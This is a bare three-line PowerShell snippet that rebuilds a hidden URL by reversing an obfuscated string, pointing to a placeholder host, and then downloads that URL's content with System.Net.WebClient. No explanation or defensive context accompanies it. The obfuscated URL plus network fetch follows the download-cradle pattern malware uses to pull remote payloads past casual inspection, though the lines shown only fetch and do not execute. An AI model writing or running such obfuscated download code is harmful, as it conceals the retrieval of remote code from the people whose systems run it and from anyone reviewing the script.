$s='txt.x/p/elpmaxe.a//:ptth';$o='';for($i=$s.Length-1;$i -ge 0;$i--){$o+=$s[$i]}
$wc = New-Object System.Net.WebClient
$wc.DownloadString($o)
